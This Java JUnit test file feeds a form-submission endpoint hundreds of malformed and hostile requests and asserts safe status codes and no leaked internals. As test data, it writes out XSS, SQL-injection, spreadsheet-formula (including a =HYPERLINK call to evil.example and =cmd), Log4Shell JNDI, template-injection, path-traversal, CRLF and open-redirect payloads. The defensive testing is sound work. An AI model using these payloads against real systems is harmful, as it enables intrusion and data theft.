package eu.mobilisesme.http;

import static org.assertj.core.api.Assertions.assertThat;

import eu.mobilisesme.forms.Field;
import eu.mobilisesme.forms.FieldType;
import eu.mobilisesme.forms.FormDefinition;
import eu.mobilisesme.forms.FormValidator;
import eu.mobilisesme.forms.Forms;
import eu.mobilisesme.submission.DynamoDbSubmissionStore;
import eu.mobilisesme.submission.SubmissionAttributes;
import eu.mobilisesme.submission.SubmissionTable;
import eu.mobilisesme.testing.Dynalite;
import eu.mobilisesme.testing.DynaliteExtension;
import eu.mobilisesme.testing.Requests;
import eu.mobilisesme.testing.Samples;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;

/**
 * A corpus of hostile and malformed requests, each with the status it must get. Whatever arrives: never a 5xx,
 * never internal detail in an answer, and nothing stored that breaks a rule.
 */
@ExtendWith(DynaliteExtension.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileRequestsTest {

    static final Instant NOW = Instant.parse("2026-11-27T10:00:00Z");
    static final LocalDate TODAY = LocalDate.of(2026, 11, 27);
    static final String MEGABYTE = "x".repeat(1024 * 1024);

    DynamoDbClient client;
    String table;
    Map<String, FormEndpoint> endpoints = new HashMap<>();

    @BeforeAll
    void start(Dynalite dynalite) {
        client = dynalite.client();
        table = "hostile-" + UUID.randomUUID();
        SubmissionTable.ensure(client, table);
        Clock clock = Clock.fixed(NOW, ZoneOffset.UTC);
        var store = new DynamoDbSubmissionStore(client, table, clock);
        endpoints.put("/api/apply", new FormEndpoint(Forms.applicationForms(), dynalite.config(table), store, clock));
        endpoints.put("/api/contact", new FormEndpoint(List.of(Forms.CONTACT), dynalite.config(table), store, clock));
    }

    record Case(HttpRequest request, Set<Integer> statuses) {
    }

    static Arguments hostile(String name, HttpRequest request, Integer... statuses) {
        return Arguments.of(Named.of(name, new Case(request, Set.of(statuses))));
    }

    static HttpRequest json(String form, String body) {
        return Requests.raw(form, Map.of(), body, false);
    }

    static HttpRequest typed(String contentType, String body) {
        return Requests.raw("contact", Map.of("content-type", contentType), body, false);
    }

    static HttpRequest bytes(String contentType, byte[] body) {
        return Requests.raw("contact", Map.of("content-type", contentType),
                Base64.getEncoder().encodeToString(body), true);
    }

    static HttpRequest form(String form, String body) {
        return Requests.raw(form, Map.of("content-type", "application/x-www-form-urlencoded"), body, false);
    }

    /** A valid contact message as JSON with one field replaced by a raw JSON value. */
    static HttpRequest contactWith(String field, String rawJson) {
        Map<String, List<String>> values = new LinkedHashMap<>(Samples.contact());
        values.remove(field);
        String body = Samples.json(values, Set.of());
        return json("contact", body.substring(0, body.length() - 1) + "," + Samples.quote(field) + ":" + rawJson + "}");
    }

    /** A valid contact message, as a form post, with one field set to a string. */
    static HttpRequest contactPost(String field, String value) {
        Map<String, List<String>> values = new LinkedHashMap<>(Samples.contact());
        values.put(field, List.of(value));
        return form("contact", Samples.urlEncoded(values));
    }

    static Stream<Arguments> corpus() {
        List<Arguments> cases = new ArrayList<>();
        String valid = Samples.json(Samples.contact(), Set.of());
        // Wrong content types
        for (String type : List.of("text/plain", "multipart/form-data; boundary=x", "application/xml", "text/html",
                "*/*", "application/json-patch+json", "application/json; charset=latin1",
                "application/x-www-form-urlencoded; charset=iso-8859-1", "application/json; charset=utf-16", "",
                "application/javascript")) {
            cases.add(hostile("content type '" + type + "'", typed(type, valid), 415));
        }
        cases.add(hostile("no content type", Requests.raw("contact", new HashMap<>() {{ put("content-type", null); }},
                valid, false), 415));
        cases.add(hostile("upper-case JSON content type is fine", typed("APPLICATION/JSON; Charset=\"UTF-8\"", valid),
                200, 201));
        // Broken encodings
        byte[][] brokenUtf8 = {{(byte) 0xC3, 0x28}, {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xC0, (byte) 0xAF},
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}, {(byte) 0xF8, (byte) 0x88,
                (byte) 0x80, (byte) 0x80, (byte) 0x80}};
        for (byte[] broken : brokenUtf8) {
            byte[] body = ("{\"name\":\"Ana" + "\"}").getBytes(StandardCharsets.UTF_8);
            byte[] withBroken = new byte[body.length + broken.length];
            System.arraycopy(body, 0, withBroken, 0, 12);
            System.arraycopy(broken, 0, withBroken, 12, broken.length);
            System.arraycopy(body, 12, withBroken, 12 + broken.length, body.length - 12);
            cases.add(hostile("invalid UTF-8 " + java.util.HexFormat.of().formatHex(broken) + " in JSON",
                    bytes("application/json", withBroken), 400));
        }
        for (String escape : List.of("%C3%28", "%FF", "%ED%A0%80", "%ZZ", "%4", "%", "%E2%82", "%C0%AF")) {
            cases.add(hostile("bad percent escape " + escape, form("contact", "name=Ana" + escape + "&email=a@b.eu"),
                    400));
        }
        cases.add(hostile("body flagged base64 but not base64", Requests.raw("contact", Map.of(), "{not base64!}",
                true), 400));
        cases.add(hostile("unpaired surrogate in a raw body", json("contact", "{\"name\":\"\uD800\"}"), 400));
        cases.add(hostile("UTF-8 byte order mark before JSON", bytes("application/json",
                ("\uFEFF" + valid).getBytes(StandardCharsets.UTF_8)), 400));
        // Huge bodies
        cases.add(hostile("1 MB JSON", json("contact", "{\"message\":\"" + MEGABYTE + "\"}"), 413));
        cases.add(hostile("1 MB form post", form("contact", "message=" + MEGABYTE), 413));
        cases.add(hostile("1 MB base64 body", bytes("application/json", MEGABYTE.getBytes(StandardCharsets.UTF_8)),
                413));
        cases.add(hostile("64 KB + 1 of multibyte text", json("contact", "{\"message\":\"" + "é".repeat(32_768)
                + "\"}"), 413));
        cases.add(hostile("201 fields", form("contact", "a=1&".repeat(201)), 400));
        cases.add(hostile("201 JSON fields", json("contact", "{" + String.join(",", java.util.stream.IntStream
                .range(0, 201).mapToObj(i -> "\"f" + i + "\":1").toList()) + "}"), 400));
        // Deep nesting and odd JSON
        cases.add(hostile("10,000 nested arrays", json("contact", "[".repeat(10_000) + "]".repeat(10_000)), 400));
        cases.add(hostile("10,000 nested objects", json("contact", "{\"a\":".repeat(10_000) + "1"
                + "}".repeat(10_000)), 400));
        cases.add(hostile("nested object in a field", contactWith("name", "{\"first\":\"Ana\"}"), 422));
        cases.add(hostile("nested array in a field", contactWith("name", "[[\"Ana\"]]"), 422));
        cases.add(hostile("array of objects in a choice", contactWith("role", "[{\"x\":1}]"), 422));
        for (String notAnObject : List.of("[]", "\"text\"", "123", "null", "true", "{} {}", "{\"a\":1}x", "{\"a\":",
                "{'name':'Ana'}", "{name:\"Ana\"}", "{\"a\":1,}", "{\"a\" 1}", "", " ")) {
            cases.add(hostile("JSON body " + notAnObject, json("contact", notAnObject), 400));
        }
        cases.add(hostile("number too long", contactWith("country", "1" + "0".repeat(100)), 400));
        // Duplicates
        cases.add(hostile("duplicate JSON keys", json("contact", "{\"name\":\"Ana\",\"name\":\"Eve\"}"), 400));
        cases.add(hostile("duplicate form field", form("contact", Samples.urlEncoded(Samples.contact())
                + "&email=eve@example.com"), 422));
        cases.add(hostile("two languages", form("contact", Samples.urlEncoded(Samples.contact()) + "&lang=fr&lang=de"),
                303));
        // NUL and control bytes
        cases.add(hostile("NUL in a JSON value", contactWith("name", "\"Ana\\u0000\""), 422));
        cases.add(hostile("NUL in a form value", contactPost("name", "Ana\u0000"), 422));
        cases.add(hostile("NUL in a field name", form("contact", Samples.urlEncoded(Samples.contact()) + "&na%00me=x"),
                422));
        cases.add(hostile("escape character in a message", contactPost("message", "Hello \u001B[31m red text here"),
                422));
        cases.add(hostile("lone surrogate escape in JSON", contactWith("name", "\"\\ud800\""), 422));
        cases.add(hostile("bidi override in a name", contactPost("name", "Ana \u202Egnp.exe"), 422));
        cases.add(hostile("zero-width space in an organisation", contactPost("organisation", "Acme\u200B"), 422));
        // Script and formula strings: stored as text when valid, never executed or echoed raw
        for (String attack : List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
                "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3", "@SUM(A1)",
                "'; DROP TABLE submissions; --", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../etc/passwd")) {
            cases.add(hostile("attack text in a name: " + attack, contactPost("name", attack), 303));
            cases.add(hostile("attack text as an e-mail: " + attack, contactPost("email", attack), 422));
            cases.add(hostile("attack text as a language: " + attack, contactPost("lang", attack), 303));
            cases.add(hostile("attack text as a field name", form("contact", Samples.urlEncoded(Samples.contact())
                    + "&" + java.net.URLEncoder.encode(attack, StandardCharsets.UTF_8) + "=1"), 422));
        }
        cases.add(hostile("attack text as the form", json("sending", "{\"form\":\"<script>\",\"lang\":\"en\"}"), 422));
        // Overlong values
        cases.add(hostile("10,000-character name", contactPost("name", "x".repeat(10_000)), 422));
        cases.add(hostile("6,000-character message", contactPost("message", "x".repeat(6_000)), 422));
        cases.add(hostile("300-character e-mail", contactPost("email", "a".repeat(290) + "@example.eu"), 422));
        cases.add(hostile("a letter with 1,000 combining marks", contactPost("name", "a" + "\u0301".repeat(1_000)),
                422));
        cases.add(hostile("10,000-character field name", form("contact", "x".repeat(10_000) + "=1"), 422));
        // Missing and mistyped fields
        cases.add(hostile("empty JSON object", json("contact", "{}"), 422));
        cases.add(hostile("only a language", json("contact", "{\"lang\":\"de\"}"), 422));
        cases.add(hostile("form post of one bare name", form("contact", "a"), 422));
        cases.add(hostile("form post of '='", form("contact", "="), 422));
        cases.add(hostile("form post of '&&&'", form("contact", "&&&"), 400));
        for (String mistyped : List.of("123", "true", "false", "null", "[]", "12.5", "-0", "1e999")) {
            cases.add(hostile("name = " + mistyped, contactWith("name", mistyped), 422));
        }
        cases.add(hostile("choice given as a number", contactWith("role", "3"), 422));
        cases.add(hostile("consent given as a number", contactWith("privacyNotice", "7"), 422));
        cases.add(hostile("consent given as true is fine", contactWith("privacyNotice", "true"), 200, 201));
        cases.add(hostile("submission id that is not a UUID", contactWith("submissionId", "\"42\""), 422));
        cases.add(hostile("submission id as a number", contactWith("submissionId", "42"), 422));
        cases.add(hostile("submission id with an injection", contactWith("submissionId",
                "\"x' OR '1'='1\""), 422));
        cases.add(hostile("unknown application form", json("sending", "{\"form\":\"investor\"}"), 422));
        cases.add(hostile("contact form posted to apply", json("sending", "{\"form\":\"contact\",\"name\":\"A\"}"),
                422));
        cases.add(hostile("headcount as text", json("sending", "{\"form\":\"sending\",\"headcount\":\"many\"}"),
                422));
        cases.add(hostile("goals as a string of JSON", json("sending", "{\"form\":\"sending\",\"goals\":\"[1,2]\"}"),
                422));
        cases.add(hostile("date in the far future", json("sending",
                "{\"form\":\"hosting\",\"availableFrom\":\"99999-01-01\"}"), 422));
        // Methods, origins, redirects and headers
        for (String method : List.of("GET", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "")) {
            cases.add(hostile("method " + method, new HttpRequest(method, "/api/contact",
                    Map.of("content-type", "application/json"), valid, false), 405));
        }
        for (String origin : List.of("https://evil.example", "null", "https://site.example.evil.com",
                "HTTPS://SITE.EXAMPLE", "http://site.example", "https://site.example:8443")) {
            cases.add(hostile("origin " + origin, Requests.raw("contact", Map.of("origin", origin), valid, false),
                    403));
        }
        cases.add(hostile("no origin at all is accepted", Requests.raw("contact",
                new HashMap<>() {{ put("origin", null); }}, valid, false), 200, 201));
        cases.add(hostile("redirect target in the form", form("contact", Samples.urlEncoded(Samples.contact())
                + "&_next=https%3A%2F%2Fevil.example"), 422));
        cases.add(hostile("redirect target as redirect", form("contact", Samples.urlEncoded(Samples.contact())
                + "&redirect=%2F%2Fevil.example"), 422));
        for (String acceptLanguage : List.of("x".repeat(5_000), "*;q=abc", "en;q=2", "xx-YY", ";;;", "de-DE,de;q=0.9")) {
            cases.add(hostile("Accept-Language " + acceptLanguage.substring(0, Math.min(20, acceptLanguage.length())),
                    Requests.raw("contact", Map.of("accept-language", acceptLanguage, "content-type", "text/plain"),
                            valid, false), 415));
        }
        cases.add(hostile("CRLF in the language", contactPost("lang", "en\r\nSet-Cookie: a=b"), 303));
        // What a later hostile run found: headers that failed before any check, unbounded normalising, invisible
        // required text, lost bytes and echoed keys
        for (String acceptLanguage : List.of("-", "en,-", "--", "-;q=0.1", "en-", "*-")) {
            cases.add(hostile("Accept-Language " + acceptLanguage, Requests.raw("contact",
                    Map.of("accept-language", acceptLanguage), valid, false), 200, 201));
            cases.add(hostile("Accept-Language " + acceptLanguage + " on a GET", new HttpRequest("GET",
                    "/api/contact", Map.of("accept-language", acceptLanguage), null, false), 405));
        }
        for (String type : List.of(";", ";;", " ; ", ";charset=utf-8")) {
            cases.add(hostile("content type '" + type + "'", typed(type, valid), 415));
        }
        cases.add(hostile("64 KB of combining marks in a name", json("contact", "{\"name\":\"a"
                + "\u0301".repeat(32_000) + "\"}"), 422));
        cases.add(hostile("64 KB of combining marks in a message", json("contact", "{\"message\":\"a"
                + "\u0301".repeat(32_000) + "\"}"), 422));
        cases.add(hostile("combining marks on every letter of a message", json("contact", "{\"message\":\""
                + "a\u0301\u0302".repeat(10_000) + "\"}"), 422));
        for (String invisible : List.of("\u3164", "\u115F\u1160", "\uFFA0", "\u2800\u2800", "\u0301")) {
            cases.add(hostile("a name that shows as nothing U+" + Integer.toHexString(invisible.charAt(0)),
                    contactPost("name", invisible), 422));
        }
        cases.add(hostile("a message of zero-width characters", contactPost("message", "\u200B\u200D".repeat(20)),
                422));
        cases.add(hostile("replacement characters in a JSON body", json("contact", valid.replace("Jan", "Jan\uFFFD")),
                400));
        cases.add(hostile("replacement character escaped in JSON", json("contact", valid.replace("Jan", "Jan\\ufffd")),
                422));
        cases.add(hostile("an unknown key with an object", json("contact", valid.substring(0, valid.length() - 1)
                + ",\"<script>k\":{\"a\":1}}"), 422));
        cases.add(hostile("an unknown key with a number", json("contact", valid.substring(0, valid.length() - 1)
                + ",\"onerror=k\":12}"), 422));
        return cases.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void hostile_requests_get_a_clear_client_answer_and_no_internal_detail(Case hostile) {
        HttpAnswer answer = endpoints.getOrDefault(hostile.request().path(), endpoints.get("/api/contact"))
                .handle(hostile.request());

        assertThat(answer.status()).isLessThan(500).isIn(hostile.statuses());
        assertThat(answer.body()).doesNotContainIgnoringCase("exception").doesNotContain("\tat ", "java.",
                "software.amazon", "eu.mobilisesme", "<script>", "onerror=", "jndi");
        assertThat(answer.headers().keySet()).noneMatch(h -> h.equalsIgnoreCase("set-cookie"));
        answer.headers().values().forEach(v -> assertThat(v).doesNotContain("\r", "\n"));
        if (answer.status() == 303) {
            assertThat(answer.headers().get("Location")).startsWith("/").doesNotStartWith("//")
                    .doesNotContain("evil");
        }
    }

    @AfterAll
    void nothing_stored_breaks_a_rule() {
        List<Map<String, AttributeValue>> items = client.scan(b -> b.tableName(table)).items();
        assertThat(items).isNotEmpty();
        for (Map<String, AttributeValue> item : items) {
            FormDefinition form = Forms.byId(item.get("form").s()).orElseThrow();
            Map<String, List<String>> values = new LinkedHashMap<>();
            for (String name : item.keySet()) {
                if (SubmissionAttributes.ALL.contains(name)) {
                    continue;
                }
                Field field = form.field(name).orElseThrow(() -> new AssertionError("stored unknown " + name));
                AttributeValue value = item.get(name);
                values.put(name, field.type() == FieldType.CHECKBOXES ? value.ss()
                        : List.of(field.type() == FieldType.CONSENT ? "yes" : value.n() != null ? value.n()
                        : value.s()));
            }
            assertThat(FormValidator.validate(form, values, TODAY).errors()).as(item.get("id").s()).isEmpty();
        }
    }
}
